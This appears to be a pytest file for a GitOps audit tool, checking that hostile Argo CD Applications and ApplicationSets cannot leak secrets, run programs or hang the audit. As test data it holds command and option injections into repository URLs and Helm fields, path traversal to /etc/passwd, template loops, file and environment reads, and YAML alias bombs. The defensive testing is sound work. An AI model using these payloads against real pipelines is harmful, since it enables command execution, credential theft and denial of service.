"""Applications and ApplicationSets written by somebody who means harm: nothing leaves the repository, runs or hangs."""

from __future__ import annotations

import json
from collections.abc import Mapping
from pathlib import Path

import pytest

from gitops_audit.config.load import load
from gitops_audit.engine.audit import run
from gitops_audit.model.result import AuditResult
from gitops_audit.report import json_report, text
from tests.audited import git, repository
from tests.rendering import TOOLS_PATH

URL = "https://git.example.com/team/fleet.git"
CONFIG = "version: 1\nkubernetesVersion: '1.30'\nsources:\n- {name: fleet, argocd: {path: argocd}}\n"
HARMLESS = "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: fine}\ndata: {a: b}\n"
CHART = "apiVersion: v2\nname: chart\nversion: 0.0.1\n"
TEMPLATE = "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: a}\ndata: {v: {{ .Values | toJson | quote }}}\n"
HUNTER = "hunter2hunter2"


@pytest.fixture(autouse=True)
def _tools(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("PATH", TOOLS_PATH)


def application(name: str, source: str, more: str = "") -> str:
    return f"""apiVersion: argoproj.io/v1alpha1
kind: Application
metadata: {{name: {name}, namespace: argocd}}
spec:
  destination: {{server: "https://kubernetes.default.svc", namespace: {name}}}
  source: {source}
{more}---
"""


def fleet(folder: Path, files: Mapping[str, str], links: Mapping[str, str] | None = None) -> Path:
    """A repository with one harmless Application and what is hostile."""
    fine = {"argocd/fine.yaml": application("fine", f"{{repoURL: {URL}, path: fine}}"), "fine/cm.yaml": HARMLESS}
    root = folder / "repo"
    for name, target in (links or {}).items():
        (root / name).parent.mkdir(parents=True, exist_ok=True)
        (root / name).symlink_to(target)
    repository(root, {"gitops-audit.yaml": CONFIG, **fine, **files})
    git(root, "remote", "add", "origin", URL)
    return root


def audited(root: Path) -> AuditResult:
    return run(load(root / "gitops-audit.yaml"))


def said(found: AuditResult) -> str:
    """All that the reports of the run show."""
    return json_report.write(found).decode() + "".join(map(text.plain, found.verdicts))


def assert_held(found: AuditResult) -> None:
    """The harmless one is audited, what must not be seen is nowhere, and nothing is a bug of the audit."""
    outcomes = {v.subject.id: v.outcome for v in found.verdicts}
    assert outcomes["git/fleet.fine/ConfigMap/fine/fine"] == "passed"
    assert HUNTER not in said(found)
    assert "GA001" not in said(found)


HELM = "{repoURL: URL, path: chart, helm: {%s}}"
KUSTOMIZE = "{repoURL: URL, path: kust, kustomize: {%s}}"
SOURCES = {
    "a path that leads out": "{repoURL: URL, path: ../../secret}",
    "a path from the root": "{repoURL: URL, path: /../secret}",
    "a path through a link": "{repoURL: URL, path: out}",
    "a value file that leads out": HELM % "valueFiles: [../../secret/values.yaml]",
    "a value file from the root": HELM % "valueFiles: [/../secret/values.yaml]",
    "a value file through a link": HELM % "valueFiles: [link.yaml]",
    "a value file of the system": HELM % "valueFiles: ['file:///etc/passwd']",
    "a file parameter that leads out": (HELM % "fileParameters: [{name: a, path: ../../secret/values.yaml}]"),
    "a file parameter through a link": HELM % "fileParameters: [{name: a, path: link.yaml}]",
    "a component that leads out": "{repoURL: URL, path: fine, kustomize: {components: [../../secret]}}",
    "a patch of a file that leads out": KUSTOMIZE % "patches: [{path: ../../secret/values.yaml}]",
    "a remote component": KUSTOMIZE % "components: ['https://evil.example.com/x']",
    "a transport that runs programs": "{repoURL: 'ext::sh -c \"touch /tmp/owned\"', path: a}",
    "a repository that is an option": "{repoURL: '--upload-pack=touch /tmp/owned', path: a}",
    "a repository of files": "{repoURL: 'file:///etc', path: a}",
    "a folder as a repository": "{repoURL: /etc, path: a}",
    "credentials of another host": f"{{repoURL: 'https://user:{HUNTER}@evil.example.com/x.git', path: a}}",
    "credentials of a chart repository": f"{{repoURL: 'https://user:{HUNTER}@evil.example.com', chart: x}}",
    "a revision that is an option": "{repoURL: URL, path: fine, targetRevision: '--output=/tmp/owned'}",
    "a revision that is a range": "{repoURL: URL, path: fine, targetRevision: HEAD..HEAD~1}",
    "a jsonnet library that leads out": "{repoURL: URL, path: json, directory: {jsonnet: {libs: [../../secret]}}}",
    "a release name that is an option": HELM % "releaseName: --post-renderer=/bin/sh",
    "a Kubernetes version that is an option": HELM % "kubeVersion: --post-renderer=/bin/sh",
    "an API version that is an option": HELM % "apiVersions: ['--post-renderer=/bin/sh']",
    "options of the wrong type": "{repoURL: [URL], path: {a: b}, helm: [], kustomize: x, directory: 1}",
    "helm options of the wrong type": HELM % "parameters: {a: b}, valueFiles: x, values: [1]",
    "kustomize options of the wrong type": KUSTOMIZE % "images: [1], replicas: [x], patches: y",
    "a glob without an end": f"{{repoURL: URL, path: fine, directory: {{include: '{'{a,b}' * 40}{'*a' * 300}'}}}}",
}


@pytest.mark.parametrize("case", SOURCES)
def test_a_hostile_source_reaches_nothing(case: str, tmp_path: Path) -> None:
    secret = tmp_path / "secret"
    secret.mkdir()
    (secret / "values.yaml").write_text(f"apiVersion: v1\nkind: ConfigMap\nmetadata: {{name: {HUNTER}}}\n")
    files = {
        "argocd/evil.yaml": application("evil", SOURCES[case].replace("URL", URL)),
        "chart/Chart.yaml": CHART,
        "chart/templates/cm.yaml": TEMPLATE,
        "kust/kustomization.yaml": "resources: [cm.yaml]\n",
        "kust/cm.yaml": HARMLESS,
        "json/a.jsonnet": "import 'values.yaml'",
    }
    links = {"out": "../secret", "chart/link.yaml": "../../secret/values.yaml"}
    owned = Path("/tmp/owned")
    before = owned.exists()
    found = audited(fleet(tmp_path, files, links))
    assert_held(found)
    assert owned.exists() == before


OVERRIDES = {
    "an alias bomb": "a: &a [x,x,x,x,x,x,x,x,x]\n"
    + "".join(f"{chr(98 + n)}: &{chr(98 + n)} [{','.join([f'*{chr(97 + n)}'] * 9)}]\n" for n in range(9)),
    "no mapping": "[1, 2]",
    "no YAML": "a: [",
    "depth": "[" * 5000,
    "another repository": "repoURL: https://evil.example.com/x.git\npath: ../../secret\nplugin: {}\n",
}


@pytest.mark.parametrize("case", OVERRIDES)
def test_a_hostile_override_is_of_its_application_alone(case: str, tmp_path: Path) -> None:
    files = {
        "argocd/evil.yaml": application("evil", f"{{repoURL: {URL}, path: evil}}"),
        "evil/.argocd-source.yaml": OVERRIDES[case],
        "evil/cm.yaml": HARMLESS.replace("fine", "evil"),
    }
    assert_held(audited(fleet(tmp_path, files)))


def application_set(generators: str, path: str = "{{.a}}", more: str = "", *, is_go: bool = True) -> str:
    template = {
        "metadata": {"name": "{{.n}}" if is_go else "{{n}}"},
        "spec": {
            "destination": {"server": "https://kubernetes.default.svc", "namespace": "web"},
            "source": {"repoURL": URL, "path": path},
        },
    }
    spec = f"  goTemplate: {str(is_go).lower()}\n  generators: {generators}\n  template: {json.dumps(template)}\n{more}"
    head = "apiVersion: argoproj.io/v1alpha1\nkind: ApplicationSet\nmetadata: {name: evil, namespace: argocd}\n"
    return f"{head}spec:\n{spec}"


ONE = "[{list: {elements: [{'n': one, a: x}]}}]"
MANY = json.dumps([{"list": {"elements": [{"n": str(n)} for n in range(3000)]}}])
LONG = json.dumps([{"list": {"elements": [{"n": str(n), "a": "x" * 100_000} for n in range(60)]}}])
SETS = {
    "a million": application_set(
        json.dumps(
            [
                {
                    "matrix": {
                        "generators": [
                            {"list": {"elements": [{"n": f"a{n}"} for n in range(1000)]}},
                            {"list": {"elements": [{"a": f"b{n}"} for n in range(1000)]}},
                        ]
                    }
                }
            ]
        )
    ),
    "three thousand": application_set(MANY),
    "a million by a list in a text": application_set(
        '[{list: {elementsYaml: "[' + ",".join(["{'n': a}"] * 3000) + ']"}}]', is_go=False
    ),
    "a template that never ends": application_set(ONE, '{{ range until 100000000 }}{{ "xxxxxxxxxx" }}{{ end }}'),
    "a template that calls itself": application_set(
        ONE, '{{ define "x" }}{{ template "x" . }}{{ end }}{{ template "x" . }}'
    ),
    "a template that reads files": application_set(ONE, '{{ .Files.Get "/etc/passwd" }}{{ (index .Files "x") }}'),
    "a template that asks the cluster": application_set(ONE, '{{ (lookup "v1" "Secret" "" "").items }}'),
    "a template that reads the environment": application_set(ONE, '{{ env "HOME" }}{{ expandenv "$HOME" }}'),
    "a template that fails with a value": application_set(ONE, f'{{{{ fail "{HUNTER}" }}}}'),
    "tags without an end": application_set(ONE, "{{" * 200_000, is_go=False),
    "quotes without an end": application_set(ONE, '{{ "' + '\\"' * 100_000),
    "a parameter that stands everywhere": application_set(LONG, "{{a}}" * 50, is_go=False),
    "a patch that is none": application_set(ONE, "x", "  templatePatch: '{{ .a }}: ['\n"),
    "a patch of a wrong place": application_set(
        ONE, "x", '  templatePatch: \'[{"op": "remove", "path": "/no/such"}]\'\n'
    ),
    "generators that are none": application_set("[1, {list: 2}, {matrix: {generators: x}}]"),
    "nested too deep": application_set(
        "[{matrix: {generators: [{matrix: {generators: [{matrix: {generators: []}}, {list: {}}]}}, {list: {}}]}}]"
    ),
    "files that lead out": application_set(f"[{{git: {{repoURL: {URL}, files: [{{path: ../../../etc/passwd}}]}}}}]"),
    "a repository that is refused": application_set("[{git: {repoURL: 'ext::sh -c true', files: [{path: x}]}}]"),
    "a name that escapes": application_set('[{list: {elements: [{"n": "\\e[31m::x", a: fine}]}}]'),
}


@pytest.mark.parametrize("case", SETS)
def test_a_hostile_set_is_an_error_of_its_own(case: str, tmp_path: Path) -> None:
    found = audited(fleet(tmp_path, {"argocd/set.yaml": SETS[case]}))
    assert_held(found)
    told = [v for v in found.verdicts if v.subject.source.startswith("fleet.") and v.subject.source != "fleet.fine"]
    assert {v.outcome for v in told} <= {"error", "failed"}
    assert told or any("ApplicationSet" in note for note in found.notes)
    assert "\x1b" not in said(found)


def test_a_name_of_several_lines_forges_no_line_of_a_report(tmp_path: Path) -> None:
    body = application_set('[{list: {elements: [{"n": "x\\nforged: passed", a: fine}]}}]')
    found = audited(fleet(tmp_path, {"argocd/set.yaml": body}))
    assert_held(found)
    lines = "".join(map(text.plain, found.verdicts)).splitlines()
    assert any("forged" in line for line in lines), lines
    assert not any(line.strip().startswith("forged") for line in lines)
